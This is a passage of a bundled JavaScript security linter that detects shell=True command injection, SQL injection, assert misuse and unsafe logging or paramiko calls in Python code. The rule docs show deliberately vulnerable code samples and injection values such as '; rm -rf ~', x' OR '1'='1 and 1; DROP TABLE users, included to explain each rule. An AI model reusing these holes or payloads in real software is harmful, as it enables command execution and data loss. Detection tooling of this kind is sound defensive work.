      // A `shell=` keyword argument is needed whatever the function list: rarer than the subprocess names.
      triggers: ["shell"],
      // isShellTrue needs `shell=` passed by name; rarer than the function names, and whatever the options say.
      calleeKeywords: SHELL_KEYWORD_NAME,
      sinkClass: "shell",
      sinks: {},
      optionSinks: (options) => Object.fromEntries(options.functions.map((name) => [name, COMMAND])),
      when: (call, module2) => isShellTrue(call, module2),
      // Where Bandit points: the `shell=True` argument.
      reportAt: (call) => shellArgument(call)?.parent ?? call,
      levels: SINK_LEVELS,
      describe: (source) => `subprocess call with shell=True runs a command built from ${source} through the shell`,
      docs: {
        why: "With shell=True the command string is interpreted by /bin/sh: any part that comes from outside the program can add commands of its own (`; rm -rf ~`). A command built from request data or other outside input blocks; from a parameter or an unknown value it is shown; a constant command, or one whose run-time parts are quoted with shlex.quote, only by --profile audit.",
        bad: [
          'import subprocess\nfrom flask import request\ndef ping():\n    return subprocess.check_output("ping -c 1 " + request.args["host"], shell=True)\n',
          'import subprocess\ndef run(name):\n    subprocess.call("ls " + name, shell=True)\n'
        ],
        good: [
          'import subprocess\ndef run(name):\n    subprocess.call(["ls", name])\n',
          'import shlex, subprocess\ndef run(name):\n    subprocess.call("ls " + shlex.quote(name), shell=True)\n',
          'import subprocess\nsubprocess.call("ls -l | wc -l", shell=True)\n'
        ],
        references: ["https://docs.python.org/3/library/subprocess.html#security-considerations", "https://cwe.mitre.org/data/definitions/78.html"]
      }
    });
  }
});

// dist/rules/sql-injection/support/sql-shape.js
function sqlShape(text) {
  for (const { kind, pattern } of STATEMENTS) {
    pattern.lastIndex = 0;
    for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
      if (isStatement(kind, match, text))
        return { statement: kind, start: match.index };
      pattern.lastIndex = match.index + 1;
    }
  }
  return null;
}
function isStatement(kind, match, text) {
  const keywords = kind === "select" ? [match[1], match[3]] : kind === "update" ? [match[1], match[3]] : [match[1], match[2]];
  const table = kind === "select" ? match[4] : kind === "update" ? match[2] : match[3];
  if (isProseWord(table))
    return false;
  if (kind === "select" && !isColumnList(match[2]))
    return false;
  const shouted = keywords.every((word) => word === word.toUpperCase());
  return shouted || STATEMENT_LEAD.test(text.slice(0, match.index));
}
function isProseWord(name) {
  return DETERMINERS.has(name.toLowerCase());
}
function isColumnList(columns) {
  const trimmed = columns.trim();
  if (trimmed === "" || /[!?;]/.test(trimmed))
    return false;
  const first = /^[\w$]+/.exec(trimmed)?.[0];
  if (first && isProseWord(first))
    return false;
  if (trimmed.includes(HOLE) || /[*,().'"`]/.test(trimmed))
    return true;
  const words2 = trimmed.split(/\s+/);
  return words2.length === 1 || words2.length === 3 && /^as$/i.test(words2[1]);
}
function holePositions(text) {
  const positions = [];
  let quotes = 0;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (char === "'")
      quotes++;
    if (char !== HOLE)
      continue;
    if (quotes % 2 === 1) {
      positions.push("value");
      continue;
    }
    const before = text.slice(Math.max(0, index - 80), index).replace(/["`[]$/, "");
    const after = text.slice(index + 1, index + 3);
    const identifier = /(?:\b(?:from|join|into|update|table|select|distinct|by|as|set)\s*|\.\s*|,\s*)$/i.test(before) || /^["`\]]?\./.test(after);
    if (identifier && /,\s*$/.test(before) && /\b(?:where|values|set|having|limit|in\s*\()/i.test(text.slice(0, index))) {
      positions.push("value");
      continue;
    }
    positions.push(identifier ? "identifier" : "value");
  }
  return positions;
}
function hasBindPlaceholders(text) {
  return /%\(\w+\)s|%s|\?|(?<![:\w]):[A-Za-z_]\w*|\$\d+/.test(text);
}
var NAME, STATEMENTS, DETERMINERS, STATEMENT_LEAD;
var init_sql_shape = __esm({
  "dist/rules/sql-injection/support/sql-shape.js"() {
    "use strict";
    init_literals();
    NAME = `(?:[\\w$]+|"[^"]+"|\`[^\`]+\`|\\[[^\\]]+\\]|${HOLE})(?:\\s*\\.\\s*(?:[\\w$]+|"[^"]+"|\`[^\`]+\`|${HOLE}))*`;
    STATEMENTS = [
      { kind: "select", pattern: new RegExp(`\\b(select)\\s+(?:(?:distinct|all|top\\s+\\d+)\\s+)?([\\s\\S]+?)\\s+(from)\\s+(${NAME})`, "gi") },
      { kind: "delete", pattern: new RegExp(`\\b(delete)\\s+(from)\\s+(?:only\\s+)?(${NAME})`, "gi") },
      { kind: "insert", pattern: new RegExp(`\\b(insert|replace)\\s+(?:(?:or\\s+\\w+|ignore|low_priority|delayed|high_priority)\\s+)*(into)\\s+(${NAME})\\s*(?:\\(|\\b(?:values|select|set|default)\\b|${HOLE})`, "gi") },
      { kind: "update", pattern: new RegExp(`\\b(update)\\s+(?:only\\s+)?(${NAME})(?:\\s+(?:as\\s+)?\\w+)?\\s+(set)\\s+(?:${HOLE}|${NAME}\\s*=)`, "gi") }
    ];
    DETERMINERS = /* @__PURE__ */ new Set(["a", "an", "the", "this", "that", "these", "those", "your", "my", "our", "their", "its", "his", "her", "one", "any", "some", "each", "every", "which", "what", "all", "here", "there", "it", "them"]);
    STATEMENT_LEAD = /(?:^|[(;]|\b(?:as|union(?:\s+all)?|intersect|except|explain(?:\s+analyze)?(?:\s+verbose)?|exists|in|with)\s*\(?)\s*(?:--[^\n]*\n\s*|\/\*[\s\S]*?\*\/\s*)*$/i;
  }
});

// dist/rules/sql-injection/support/sql-sinks.js
function sqlSinkQuery(call, module2) {
  if (!module2.calleeLastNames(call).some((name2) => SINK_LAST_NAMES.has(name2)))
    return void 0;
  const name = module2.callName(call);
  const functionKeyword = name === void 0 ? void 0 : SQL_FUNCTIONS.get(name);
  if (functionKeyword)
    return argument(call, functionKeyword, 0);
  const callee = call.childForFieldName("function");
  if (callee?.type !== "attribute")
    return void 0;
  const method = callee.childForFieldName("attribute")?.text ?? "";
  const keyword = SQL_METHODS.get(method) ?? (method === "RawSQL" ? "sql" : void 0);
  if (!keyword)
    return void 0;
  return argument(call, keyword, 0) ?? keywordArgument(call, "query") ?? keywordArgument(call, "sql");
}
function sqlInjectionVerdict(expression, module2) {
  const folded = module2.fold(expression);
  return folded ? sqlInjectionVerdictOf(folded, module2) : void 0;
}
function sqlInjectionVerdictOf(folded, module2) {
  if (folded.constant || !folded.text.includes(HOLE))
    return void 0;
  const shape = sqlShape(folded.text);
  if (!shape)
    return void 0;
  const positions = holePositions(folded.text);
  const aligned = positions.length === folded.dynamic.length;
  const unsafe = [];
  positions.forEach((position, index) => {
    const part = aligned ? folded.dynamic[index] : void 0;
    if (part && isHarmlessSqlPart(part, module2))
      return;
    unsafe.push({ position, part });
  });
  if (unsafe.length === 0)
    return void 0;
  const parts = aligned ? unsafe.map((hole) => hole.part) : folded.dynamic;
  return {
    shape,
    position: unsafe.some((hole) => hole.position === "value") ? "value" : "identifier",
    parts,
    text: folded.text,
    placeholders: hasBindPlaceholders(folded.text)
  };
}
function isHarmlessSqlPart(part, module2) {
  if (part.type === "integer" || part.type === "float")
    return true;
  if (part.type === "conditional_expression") {
    const branches = part.namedChildren;
    return branches.length === 3 && module2.isConstant(branches[0]) && module2.isConstant(branches[2]);
  }
  if (["binary_operator", "list_comprehension", "generator_expression"].includes(part.type))
    return producesOnlyPlaceholders(part, module2);
  if (part.type !== "call")
    return false;
  const name = module2.callName(part) ?? "";
  if (NUMERIC_CALLS.has(name) && (name.includes(".") || !module2.imports.aliases.has(name)))
    return true;
  const method = module2.calleeAttribute(part) ?? "";
  if (/^(?:quote|escape)|quote_name$|quote_ident(?:ifier)?$|^literal$/i.test(method))
    return true;
  if (method === "join") {
    const iterable = argument(part, null, 0);
    return !!iterable && producesOnlyPlaceholders(iterable, module2);
  }
  return false;
}
function producesOnlyPlaceholders(node, module2) {
  switch (node.type) {
    case "binary_operator": {
      if (node.childForFieldName("operator")?.type !== "*")
        return false;
      const left = node.childForFieldName("left");
      const right = node.childForFieldName("right");
      return !!left && producesOnlyPlaceholders(left, module2) || !!right && producesOnlyPlaceholders(right, module2);
    }
    case "list":
    case "tuple":
      return node.namedChildCount > 0 && node.namedChildren.every((item) => producesOnlyPlaceholders(item, module2));
    case "list_comprehension":
    case "generator_expression":
    case "set_comprehension": {
      const body = node.childForFieldName("body");
      return !!body && producesOnlyPlaceholders(body, module2);
    }
    case "parenthesized_expression":
      return !!node.firstNamedChild && producesOnlyPlaceholders(node.firstNamedChild, module2);
    case "call": {
      const first = argument(node, null, 0);
      return module2.callName(node) === "itertools.repeat" && !!first && producesOnlyPlaceholders(first, module2);
    }
    default: {
      const value = module2.constant(node);
      return typeof value === "string" && PLACEHOLDER.test(value);
    }
  }
}
var SQL_METHODS, SQL_FUNCTIONS, SINK_LAST_NAMES, NUMERIC_CALLS, PLACEHOLDER;
var init_sql_sinks = __esm({
  "dist/rules/sql-injection/support/sql-sinks.js"() {
    "use strict";
    init_imports();
    init_arguments();
    init_literals();
    init_sql_shape();
    SQL_METHODS = /* @__PURE__ */ new Map([
      ["execute", "operation"],
      ["executemany", "operation"],
      ["executescript", "sql_script"],
      ["exec_driver_sql", "statement"],
      ["raw", "raw_query"],
      ["mogrify", "query"],
      // asyncpg connections and pools; aiosqlite connections.
      ["fetch", "query"],
      ["fetchrow", "query"],
      ["fetchval", "query"],
      ["execute_fetchall", "sql"]
    ]);
    SQL_FUNCTIONS = /* @__PURE__ */ new Map([
      ["sqlalchemy.text", "text"],
      ["sqlalchemy.sql.text", "text"],
      ["sqlalchemy.sql.expression.text", "text"],
      ["django.db.models.RawSQL", "sql"],
      ["django.db.models.expressions.RawSQL", "sql"],
      ["pandas.read_sql", "sql"],
      ["pandas.read_sql_query", "sql"]
    ]);
    SINK_LAST_NAMES = /* @__PURE__ */ new Set([...SQL_METHODS.keys(), "RawSQL", ...[...SQL_FUNCTIONS.keys()].map(lastName)]);
    NUMERIC_CALLS = /* @__PURE__ */ new Set(["int", "float", "len", "round", "abs", "bool", "math.floor", "math.ceil"]);
    PLACEHOLDER = /^\s*(?:%s|\?|%\(\w+\)s|:\w+|\$\d+)\s*$/;
  }
});

// dist/rules/sql-injection/sql-injection.js
function reportBuilt(context, node, verdict) {
  const { module: module2 } = context;
  const trace = strongestTrace(verdict.parts.map((part) => traceValue(part, module2, { sink: "sql" })));
  if (trace.kind === "constant" || trace.kind === "sanitised") {
    context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: `${builtMessage(verdict)}; its run-time parts are constants or checked values (shown by --profile audit)` });
    return;
  }
  if (trace.kind === "parameter") {
    const statement = verdict.shape.statement.toUpperCase();
    const describe = (source) => `SQL injection: ${statement} query built with ${source} formatted into it (${describeParts(verdict.parts)}); pass values as parameters`;
    const fromCallers = sinkVerdicts({ sinkClass: "sql", levels: BUILT_LEVELS, describe }, node, verdict.parts, module2).filter((report) => report.node.id !== node.id);
    if (fromCallers.length > 0) {
      for (const report of fromCallers)
        context.report(report);
      return;
    }
  }
  context.report({ node, message: builtMessage(verdict) });
}
function builtMessage(verdict) {
  const statement = verdict.shape.statement.toUpperCase();
  return verdict.position === "identifier" ? `${statement} query with table or column names formatted in: check them against an allow-list` : `${statement} query built by string formatting: values formatted into SQL can change the statement`;
}
function reportOutsideQuery(context, call, query) {
  if (context.module.isConstant(query) || !isQueryText(query, context.module, 0))
    return;
  const describe = (source) => `SQL injection: the statement executed is ${source}; run fixed SQL with the values as parameters`;
  const report = sinkVerdict({ sinkClass: "sql", levels: REQUEST_ONLY, describe }, call, [query], context.module);
  if (report)
    context.report(report);
}
function isQueryText(node, module2, depth) {
  if (depth > 4)
    return false;
  switch (node.type) {
    case "string":
    case "concatenated_string":
    case "binary_operator":
    case "subscript":
      return true;
    case "parenthesized_expression":
    case "await":
      return !!node.firstNamedChild && isQueryText(node.firstNamedChild, module2, depth + 1);
    case "identifier": {
      const values = module2.valuesOf(node);
      return !!values && values.length > 0 && values.every((value) => isQueryText(value, module2, depth + 1));
    }
    case "call":
      return TEXT_METHODS.has(module2.calleeAttribute(node) ?? "") && node.childForFieldName("function")?.type === "attribute";
    default:
      return false;
  }
}
function reportSink(context, call, query) {
  const verdict = sqlInjectionVerdict(query, context.module);
  if (!verdict) {
    reportOutsideQuery(context, call, query);
    return;
  }
  const statement = verdict.shape.statement.toUpperCase();
  const what = verdict.position === "identifier" ? (source) => `${statement} query executed with table or column names formatted in from ${source}${verdict.placeholders ? " (values are bound)" : ""}: check the names against an allow-list` : (source) => `SQL injection: ${statement} query executed with ${source} formatted into it (${describeParts(verdict.parts)}); pass values as parameters`;
  const spec = { sinkClass: "sql", levels: SINK_LEVELS, describe: what };
  const fromParts = sinkVerdict(spec, call, verdict.parts, context.module);
  if (!fromParts)
    return;
  const judged = sinkVerdicts(spec, call, verdict.parts, context.module);
  if (judged.length !== 1 || judged[0].node.id !== call.id || !sameLevels(judged[0], fromParts)) {
    for (const report2 of judged)
      context.report(report2);
    return;
  }
  const whole = sinkVerdict(spec, call, query, context.module);
  const report = whole && sameLevels(whole, fromParts) ? whole : fromParts;
  context.report({ ...report, flow: report.flow ?? queryFlow(query, context.module, call) });
}
function sameLevels(one, other) {
  return one.severity === other.severity && one.confidence === other.confidence && !!one.auditOnly === !!other.auditOnly;
}
function describeParts(parts) {
  const names = [...new Set(parts.map((part) => part.text.replace(/\s+/g, " ")))].slice(0, 3).map((text) => text.length > 30 ? `${text.slice(0, 27)}...` : text);
  return names.join(", ") || "run-time value";
}
function queryFlow(query, module2, call) {
  if (query.type !== "identifier")
    return void 0;
  const values = module2.valuesOf(query);
  if (!values || values.length === 0)
    return void 0;
  return [
    ...values.map((value) => `${query.text} built at line ${value.startPosition.row + 1}: ${value.text.replace(/\s+/g, " ").slice(0, 80)}`),
    `executed at line ${call.startPosition.row + 1}`
  ];
}
function reportAugmentedQuery(context, node) {
  const { module: module2 } = context;
  const target = node.childForFieldName("left");
  const right = node.childForFieldName("right");
  if (node.childForFieldName("operator")?.type !== "+=" || target?.type !== "identifier" || !right)
    return;
  if (!SQL_HINT.test(right.text) || module2.isConstant(right))
    return;
  const scope = module2.scopeOf(target);
  const verdictAt = (position) => {
    const values = scope.valuesBefore(target.text, position);
    const shapes = values?.map((value) => module2.fold(value));
    if (!shapes || shapes.length === 0 || shapes.some((shape) => shape === null))
      return void 0;
    const parts = shapes;
    return sqlInjectionVerdictOf({
      text: parts.map((part) => part.text).join(""),
      constant: parts.every((part) => part.constant),
      dynamic: parts.flatMap((part) => part.dynamic)
    }, module2);
  };
  if (verdictAt(node.startIndex) || sqlInjectionVerdict(right, module2))
    return;
  const verdict = verdictAt(node.endIndex);
  if (!verdict || reachesSqlSink(right, module2))
    return;
  context.report({ node, message: builtMessage(verdict) });
}
function hasInterpolation(node) {
  if (node.type === "concatenated_string")
    return node.namedChildren.some(hasInterpolation);
  return node.namedChildren.some((child) => child.type === "interpolation");
}
function unparenthesize(node) {
  let current = node;
  while (current.parent?.type === "parenthesized_expression")
    current = current.parent;
  return current;
}
function enclosingBuild(node, module2) {
  const self = unparenthesize(node);
  const parent = self.parent;
  if (!parent)
    return void 0;
  switch (parent.type) {
    case "binary_operator": {
      const operator = parent.childForFieldName("operator")?.type;
      return operator === "+" || operator === "%" ? parent : void 0;
    }
    case "concatenated_string":
      return parent;
    case "interpolation":
      return parent.parent ?? void 0;
    case "attribute": {
      const call = parent.parent;
      const method = parent.childForFieldName("attribute")?.text ?? "";
      return call?.type === "call" && BUILD_METHODS.has(method) && parent.childForFieldName("object")?.id === self.id ? call : void 0;
    }
    case "argument_list": {
      const call = parent.parent;
      return call && BUILD_METHODS.has(module2.calleeAttribute(call) ?? "") && call.childForFieldName("function")?.type === "attribute" ? call : void 0;
    }
    case "keyword_argument": {
      const call = parent.parent?.parent;
      return call?.type === "call" && module2.calleeAttribute(call) === "format" ? call : void 0;
    }
    case "tuple":
    case "list":
    case "dictionary":
    case "pair": {
      const holder = unparenthesize(parent.type === "pair" ? parent.parent ?? parent : parent);
      const operator = holder.parent?.type === "binary_operator" ? holder.parent.childForFieldName("operator")?.type : void 0;
      if (operator === "%" && holder.parent.childForFieldName("right")?.id === holder.id)
        return holder.parent;
      if (holder.parent?.type === "argument_list" && module2.calleeAttribute(holder.parent.parent) === "join")
        return holder.parent.parent;
      return void 0;
    }
    default:
      return void 0;
  }
}
function reachesSqlSink(expression, module2) {
  const self = unparenthesize(expression);
  const parent = self.parent;
  const call = parent?.type === "argument_list" ? parent.parent : parent?.type === "keyword_argument" ? parent.parent?.parent : null;
  if (call?.type === "call") {
    const query = sqlSinkQuery(call, module2);
    if (query && query.id === self.id)
      return sqlInjectionVerdict(query, module2) !== void 0;
  }
  const statement = parent?.type === "assignment" || parent?.type === "augmented_assignment" ? parent : null;
  const target = statement?.childForFieldName("left");
  if (!statement || target?.type !== "identifier" || statement.childForFieldName("right")?.id !== self.id)
    return false;
  const owner = enclosingFunction(statement) ?? module2.root;
  for (const candidate of owner.descendantsOfType("call")) {
    if (candidate.startIndex < statement.endIndex)
      continue;
    const query = sqlSinkQuery(candidate, module2);
    if (query?.type !== "identifier" || query.text !== target.text)
      continue;
    const values = module2.valuesOf(query);
    if (values?.some((value) => value.id === self.id) && sqlInjectionVerdict(query, module2))
      return true;
  }
  return false;
}
var BUILD_METHODS, SQL_WORD, LETTER_ESCAPE, SQL_HINT, sql_injection_default, BUILT_LEVELS, TEXT_METHODS;
var init_sql_injection = __esm({
  "dist/rules/sql-injection/sql-injection.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_sql_sinks();
    init_taint_rule();
    init_taint();
    BUILD_METHODS = /* @__PURE__ */ new Set(["format", "join", "replace"]);
    SQL_WORD = /select|insert|update|delete|replace/i;
    LETTER_ESCAPE = /\\(?:x[0-9a-fA-F]|u[0-9a-fA-F]|U[0-9a-fA-F]|N\{|[0-7])/;
    SQL_HINT = /\b(?:select|insert|update|delete|replace|where|from|into|values|set|join|order|group|limit|and|or)\b/i;
    sql_injection_default = defineRule({
      id: "sql-injection",
      aliases: ["B608", "S608", "hardcoded_sql_expressions"],
      category: "sql-injection",
      cwe: 89,
      severity: "medium",
      confidence: "low",
      cost: "fast",
      // Every report needs SQL text, found by folding the file's string literals: a keyword in the source, or one spelled
      // with escapes (`"\x53ELECT"`). A keyword split across adjacent literals (`"SEL" "ECT"`) is not seen.
      triggers: [SQL_WORD, LETTER_ESCAPE, /executescript/],
      // Calls that build a string (`.format()`, `.join()`, `.replace()`) or run SQL.
      callees: [...BUILD_METHODS, ...SINK_LAST_NAMES],
      message: "SQL query built by string formatting: values formatted into SQL can change the statement",
      fix: 'Pass values as query parameters (`cursor.execute("SELECT \u2026 WHERE id = %s", (user_id,))`, `text("\u2026 :id")`); check table and column names against an allow-list.',
      docs: {
        why: "A value formatted into SQL text is parsed as SQL: a name like `x' OR '1'='1` or `1; DROP TABLE users` rewrites the query. A query with run-time values that reaches execute()/executemany(), Django raw()/RawSQL or SQLAlchemy text() is decided by where the values come from: request data or other outside input blocks (high severity, high confidence); a parameter (medium/medium) or a value of unknown origin (medium/low) is shown without blocking; cast or quoted values only by --profile audit. A SQL string built the same way that is not seen reaching a sink is medium severity, low confidence, as in Bandit. Prose that merely contains \"select \u2026 from\" or \"deleted from\" is not SQL and is not reported, and numbers, generated placeholder lists and quoting functions are harmless parts. Fragments passed to QuerySet.extra() and RawSQL() are also checked by django-extra and django-rawsql.",
        bad: [
          `from django.db import connection
def search(request):
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM users WHERE name = '%s'" % request.GET["q"])
        return cursor.fetchall()
`,
          `def find(cursor, name):
    cursor.execute("SELECT * FROM users WHERE name = '%s'" % name)
`,
          'def find(cursor, uid):\n    query = f"DELETE FROM sessions WHERE user_id = {uid}"\n    cursor.execute(query)\n',
          `def build(name):
    return "SELECT id FROM users WHERE name = '" + name + "'"
`
        ],
        good: [
          'def find(cursor, name):\n    cursor.execute("SELECT * FROM users WHERE name = %s", (name,))\n',
          'def ask(variants):\n    print(f"Please select from {variants}")\n',
          'def find(cursor, ids):\n    marks = ",".join(["%s"] * len(ids))\n    cursor.execute(f"SELECT * FROM users WHERE id IN ({marks})", ids)\n'
        ],
        references: [
          "https://cwe.mitre.org/data/definitions/89.html",
          "https://peps.python.org/pep-0249/#paramstyle",
          "https://docs.djangoproject.com/en/stable/topics/security/#sql-injection-protection"
        ]
      },
      create(context) {
        const { module: module2 } = context;
        const examineBuild = (node) => {
          const text = node.text;
          if (node.type === "string" || node.type === "concatenated_string") {
            if (!SQL_WORD.test(text) || !hasInterpolation(node))
              return;
          } else if (!SQL_HINT.test(text)) {
            return;
          }
          if (enclosingBuild(node, module2))
            return;
          const verdict = sqlInjectionVerdict(node, module2);
          if (!verdict || reachesSqlSink(node, module2))
            return;
          reportBuilt(context, node, verdict);
        };
        return {
          binary_operator(node) {
            const operator = node.childForFieldName("operator")?.type;
            if (operator === "+" || operator === "%")
              examineBuild(node);
          },
          // Only strings with interpolations can be built queries: they are found from their prefixes, once per file.
          module() {
            for (const string of module2.formattedStrings())
              examineBuild(string);
          },
          concatenated_string: examineBuild,
          call(node) {
            const method = module2.calleeAttribute(node);
            if (method && BUILD_METHODS.has(method) && node.childForFieldName("function")?.type === "attribute")
              examineBuild(node);
            const query = sqlSinkQuery(node, module2);
            if (query)
              reportSink(context, node, query);
          },
          augmented_assignment(node) {
            reportAugmentedQuery(context, node);
          }
        };
      }
    });
    BUILT_LEVELS = levelTable({ request: { severity: "high", confidence: "high" }, "user-input": { severity: "high", confidence: "high" }, parameter: { severity: "medium", confidence: "low" }, unknown: { severity: "medium", confidence: "low" }, "stored-input": { severity: "medium", confidence: "low" } });
    TEXT_METHODS = /* @__PURE__ */ new Set(["read", "decode", "get", "strip", "getvalue", "format", "join", "replace", "lower", "upper"]);
  }
});

// dist/rules/assert-used/assert-used.js
function underTypeChecking(node) {
  for (let current = node.parent; current; current = current.parent) {
    if (current.type === "if_statement") {
      const condition = current.childForFieldName("condition")?.text ?? "";
      if (/^(?:typing\.)?TYPE_CHECKING$/.test(condition))
        return true;
    }
  }
  return false;
}
var assert_used_default;
var init_assert_used = __esm({
  "dist/rules/assert-used/assert-used.js"() {
    "use strict";
    init_types();
    assert_used_default = defineRule({
      id: "assert-used",
      aliases: ["B101", "S101", "assert_used"],
      category: "assert-used",
      cwe: 703,
      severity: "low",
      confidence: "high",
      cost: "fast",
      message: "assert is removed when Python runs with -O: do not use it to enforce checks",
      fix: "Raise an exception explicitly (`if not user.is_admin: raise PermissionError(...)`).",
      triggers: ["assert"],
      docs: {
        why: "Python drops every assert statement when run with optimisation (-O, PYTHONOPTIMIZE), so a permission or input check written as an assert silently disappears in such deployments. Test code is exempt by the test-code policy; asserts inside `if TYPE_CHECKING:` never run and are not reported.",
        bad: ["def delete(user, item):\n    assert user.is_admin\n    item.delete()\n"],
        good: ['def delete(user, item):\n    if not user.is_admin:\n        raise PermissionError("admin only")\n    item.delete()\n'],
        references: ["https://docs.python.org/3/reference/simple_stmts.html#the-assert-statement", "https://cwe.mitre.org/data/definitions/703.html"]
      },
      create(context) {
        return {
          assert_statement(node) {
            if (underTypeChecking(node))
              return;
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/code-injection/logging-config-listen.js
var logging_config_listen_default;
var init_logging_config_listen = __esm({
  "dist/rules/code-injection/logging-config-listen.js"() {
    "use strict";
    init_types();
    init_arguments();
    logging_config_listen_default = defineRule({
      id: "logging-config-listen",
      aliases: ["B612", "S612", "logging_config_insecure_listen"],
      category: "code-injection",
      cwe: 94,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "logging.config.listen() without verify= accepts configurations that can run code",
      fix: "Pass verify= with a function that checks a signature (or decrypts) the received configuration, and listen on localhost only.",
      triggers: [["logging", "listen"]],
      callees: ["listen"],
      docs: {
        why: "logging.config.listen() opens a socket that accepts logging configurations; a configuration can name arbitrary callables to import and call, so whoever can connect can run code in the process.",
        bad: ["import logging.config\nthread = logging.config.listen(9999)\n"],
        good: ["import logging.config\nthread = logging.config.listen(9999, verify=check_signature)\n"],
        references: ["https://docs.python.org/3/library/logging.config.html#logging.config.listen"]
      },
      create(context) {
        return {
          call(node) {
            if (context.module.callName(node) === "logging.config.listen" && !hasKeyword(node, "verify"))
              context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/call-with-shell-true.js
var SHELL_KEYWORD, call_with_shell_true_default;
var init_call_with_shell_true = __esm({
  "dist/rules/command-injection/call-with-shell-true.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_process_functions();
    init_shell_truthiness();
    SHELL_KEYWORD = /\bshell\s*=/;
    call_with_shell_true_default = defineRule({
      id: "call-with-shell-true",
      aliases: ["B604", "S604", "any_other_function_with_shell_equals_true"],
      category: "command-injection",
      cwe: 78,
      severity: "medium",
      confidence: "low",
      cost: "fast",
      message: "call with shell=True: if this function runs a command, it goes through the shell",
      fix: "Pass the command as an argument list without shell=True, or quote every run-time value with shlex.quote().",
      options: { functions: SUBPROCESS_FUNCTIONS },
      // Only calls with a `shell=` keyword argument are reported.
      triggers: ["shell"],
      // Any callee, but isShellTrue needs `shell=` passed by name.
      calleeKeywords: SHELL_KEYWORD_NAME,
      docs: {
        why: "Wrappers around subprocess (invoke, fabric, project helpers) usually forward shell=True to /bin/sh, where any run-time part of the command can add commands of its own. The function is not known to run a shell, hence low confidence.",
        bad: ['from fabric import api\ndef deploy(name):\n    api.local("rm -rf /srv/" + name, shell=True)\n'],
        good: ['from fabric import api\ndef deploy(name):\n    api.local(["rm", "-rf", "/srv/" + name], shell=False)\n'],
        references: ["https://docs.python.org/3/library/subprocess.html#security-considerations"]
      },
      create(context) {
        const subprocessFunctions = new Set(context.options.functions);
        return {
          call(node) {
            if (!SHELL_KEYWORD.test(node.text) || !isShellTrue(node, context.module))
              return;
            const name = context.module.callName(node);
            if (name && subprocessFunctions.has(name))
              return;
            context.report({ node: keywordArgumentNode(node, "shell") ?? node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/paramiko-exec-command.js
var paramiko_exec_command_default;
var init_paramiko_exec_command = __esm({
  "dist/rules/command-injection/paramiko-exec-command.js"() {
    "use strict";
    init_types();
    init_arguments();
    paramiko_exec_command_default = defineRule({
      id: "paramiko-exec-command",
      aliases: ["B601", "S601", "paramiko_calls"],
      category: "command-injection",
      cwe: 78,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "paramiko exec_command() runs its string through the remote shell",
      fix: "Quote every run-time value with shlex.quote() before building the remote command, or run a fixed command.",
      // The method name is needed as well as the paramiko import (kept below), and is the rarer word.
      triggers: ["exec_command"],
      // Matched by the method's name.
      callees: ["exec_command"],
      docs: {
        why: "exec_command() sends the string to the SSH server, which runs it with the remote user's shell: run-time parts can add commands of their own. A constant command is shown only by --profile audit (Bandit reports every call as medium).",
        bad: ['import paramiko\ndef remove(client, path):\n    client.exec_command("rm -rf " + path)\n'],
        good: ['import paramiko, shlex\ndef remove(client, path):\n    client.exec_command("rm -rf -- " + shlex.quote(path))\n'],
        references: ["https://docs.paramiko.org/en/stable/api/client.html#paramiko.client.SSHClient.exec_command"]
      },
      create(context) {
        if (!context.module.importsLike("paramiko"))
          return {};
        return {
          call(node) {
            let callee = node.childForFieldName("function");
            while (callee?.type === "parenthesized_expression")
              callee = callee.firstNamedChild;
            if (callee?.type !== "attribute" || callee.childForFieldName("attribute")?.text !== "exec_command")
              return;
            const command = argument(node, "command", 0);
            const folded = command ? context.module.fold(command) : null;
            if (command && context.module.isConstant(command)) {
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: "paramiko exec_command() with a constant command: safe now, but it runs through the remote shell (shown by --profile audit)" });
              return;
            }
            if (folded && folded.dynamic.length > 0 && folded.dynamic.every((part) => part.type === "call" && context.module.callName(part) === "shlex.quote"))
              return;
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/support/process-arguments.js
function commandArgument(call) {
  return argument(call, "args", 0);
}
function isFixedCommand(node, module2, depth = 0) {
  if (depth > 4)
    return false;
  if (module2.isConstant(node))
    return true;
  switch (node.type) {
    case "list":
    case "tuple":
      return node.namedChildren.every((item) => isFixedCommand(item, module2, depth + 1));
    case "parenthesized_expression":
      return !!node.firstNamedChild && isFixedCommand(node.firstNamedChild, module2, depth + 1);
    case "attribute":
      return TRUSTED_PROGRAMS.has(module2.qualifiedName(node) ?? "");
    case "call": {
      const first = argument(node, "s", 0);
      return module2.callName(node) === "shlex.split" && !!first && module2.isConstant(first);
    }
    case "identifier": {
      if (TRUSTED_PROGRAMS.has(module2.qualifiedName(node) ?? ""))
        return true;
      if (module2.changedInPart(node))
        return false;
      const values = module2.valuesOf(node);
      return !!values && values.length > 0 && values.every((value) => isFixedCommand(value, module2, depth + 1));
    }
    default:
      return false;
  }
}
function literalProgram(node, module2) {
  let target = node;
  if (node.type === "list" || node.type === "tuple") {
    const first = node.firstNamedChild;
    if (!first)
      return void 0;
    target = first;
  }
  const value = module2.constant(target);
  return typeof value === "string" ? { text: value, node: target } : void 0;
}
var TRUSTED_PROGRAMS;
var init_process_arguments = __esm({
  "dist/rules/command-injection/support/process-arguments.js"() {
    "use strict";
    init_arguments();
    TRUSTED_PROGRAMS = /* @__PURE__ */ new Set(["sys.executable"]);
  }
});

// dist/rules/command-injection/start-process-partial-path.js
var FULL_PATH, start_process_partial_path_default;
var init_start_process_partial_path = __esm({
  "dist/rules/command-injection/start-process-partial-path.js"() {
    "use strict";
    init_types();
    init_process_functions();
    init_process_arguments();
    init_name_triggers();
    FULL_PATH = /^(?:[A-Za-z](?=:)|[\\/.])/;
    start_process_partial_path_default = defineRule({
      id: "start-process-partial-path",
      aliases: ["B607", "S607", "start_process_with_partial_path"],
      category: "command-injection",
      cwe: 78,
      severity: "low",
      confidence: "high",
      cost: "fast",
      // Off in the recommended preset: `subprocess.run(["git", ...])` is how nearly every project calls tools, and
